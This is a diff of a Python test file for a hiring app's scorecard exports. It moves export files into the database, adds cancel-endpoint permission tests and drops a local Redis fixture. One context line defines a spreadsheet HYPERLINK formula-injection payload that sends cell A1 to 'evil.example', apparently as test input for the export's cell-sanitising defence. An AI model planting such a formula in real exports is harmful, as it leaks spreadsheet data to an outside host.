@@ -3,10 +3,6 @@
 from __future__ import annotations
 
 import io
-import shutil
-import socket
-import subprocess
-import time
 import zipfile
 from datetime import timedelta
 
@@ -20,10 +16,8 @@ from assessment.scorecard import batch
 from assessment.scorecard.export import candidate_ids_for, export_scorecards, safe_cell
 from assessment.scorecard.export_commands import export_scorecards_command, export_worker_command
 from assessment.scorecard.export_views import bp as exports_bp
-from assessment.scorecard.job_model import ExportJob
-from assessment.scorecard.jobs import export_dir
+from assessment.scorecard.job_model import ExportFile, ExportJob
 from tests.conftest import _empty_tables, csrf_token
-from tests.system import require
 from tests.web.helpers import pdf_text, rate_every_question, read_csv, wait_done
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -182,9 +176,11 @@ def test_the_cli_writes_each_format(app, runner, position_of_three, tmp_path, mo
 # --- jobs and pages -------------------------------------------------------------------
 
 
-def start(client, position, kind, picks=()):
+def start(client, position, kind, picks=(), confirm_all=True):
     token = csrf_token(client.get(f"/positions/{position.id}"))
     data = {"csrf_token": token, "kind": kind, "paper": "A4", "candidates": [str(p) for p in picks]}
+    if confirm_all and not picks:
+        data["confirm_all"] = "y"  # as the confirmation page sends it
     return client.post(f"/positions/{position.id}/exports", data=data)
 
 
@@ -213,14 +209,15 @@ def test_the_csv_job_the_list_and_old_files_deleted(app, client, login, users, p
         old = ExportJob(position_id=position.id, kind="csv", status="done", file_name="9.csv")
         old.finished_at = utcnow() - timedelta(hours=25)
         session.add(old)
-    old_file = export_dir() / "9.csv"
-    old_file.parent.mkdir(parents=True, exist_ok=True)
-    old_file.write_text("old")
+        session.flush()
+        session.add(ExportFile(job_id=old.id, data=b"old", size=3))
     login(users["admin"])
     state = wait_done(client, start(client, position, "csv").headers["Location"])
     rows = read_csv(client.get(state["download"]).data)
     assert len(rows) == 4
-    assert not old_file.exists() and db.session.get(ExportJob, old.id).file_name is None
+    assert db.session.get(ExportJob, old.id).file_name is None
+    assert db.session.get(ExportFile, old.id) is None  # the bytes are gone from the database
+    assert not list(batch_scratch().glob("*"))  # nothing left on this host's disk
     listing = client.get(f"/positions/{position.id}/exports").get_data(as_text=True)
     assert "CSV" in listing and "done" in listing
 
@@ -236,6 +233,12 @@ def test_a_bad_selection_is_refused_and_nothing_starts(
     assert f"Not candidates of this position: {stranger.id}" in response.get_data(as_text=True)
     assert start(client, position, "docx").status_code == 422
     assert db.session.scalar(db.select(db.func.count(ExportJob.id))) == 0
+
+
+def batch_scratch():
+    from assessment.scorecard.job_files import scratch_dir
+
+    return scratch_dir()
 
 
 def add_job(position, owner, **fields) -> ExportJob:
@@ -283,15 +286,19 @@ def test_managers_get_403_everywhere_and_others_exports_stay_closed(
     position, *_ = position_of_three
     job = add_job(position, users["hr"], kind="csv", status="done", file_name="1.csv")
     base = f"/positions/{position.id}/exports"
-    urls = [base, f"{base}/{job.id}", f"{base}/{job.id}/download"]
+    urls = [base, f"{base}/{job.id}", f"{base}/{job.id}/download", f"{base}/{job.id}/cancel"]
     login(users["manager"])
-    for url in urls:
+    for url in urls[:3]:
         assert client.get(url).status_code == 403
     assert client.post(base, data={"kind": "csv"}).status_code == 403
+    assert client.post(urls[3]).status_code == 403
     client.post("/logout", data={"csrf_token": csrf_token(client.get("/"))})
     login(make_user("hr"))  # another HR person: not their export
     for url in urls[1:]:
-        response = client.get(url)
+        if url.endswith("/cancel"):
+            response = client.post(url, data={"csrf_token": csrf_token(client.get("/"))})
+        else:
+            response = client.get(url)
         assert response.status_code == 403 and "made by someone else" in response.get_data(
             as_text=True
         )
@@ -299,36 +306,6 @@ def test_managers_get_403_everywhere_and_others_exports_stay_closed(
 
 
 # --- RQ with a real Redis -------------------------------------------------------------
-
-
-def free_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        return sock.getsockname()[1]
-
-
-@pytest.fixture
-def redis_url():
-    """A throwaway redis-server on a free port, with nothing saved to disk."""
-    require("redis-server")
-    binary = shutil.which("redis-server")
-    from redis import Redis
-
-    port = free_port()
-    args = [binary, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"]
-    server = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-    url = f"redis://127.0.0.1:{port}/0"
-    try:
-        for _ in range(100):
-            try:
-                if Redis.from_url(url).ping():
-                    break
-            except Exception:  # noqa: BLE001 - not up yet
-                time.sleep(0.05)
-        yield url
-    finally:
-        server.terminate()
-        server.wait(10)
 
 
 def test_with_redis_the_export_is_an_rq_job(
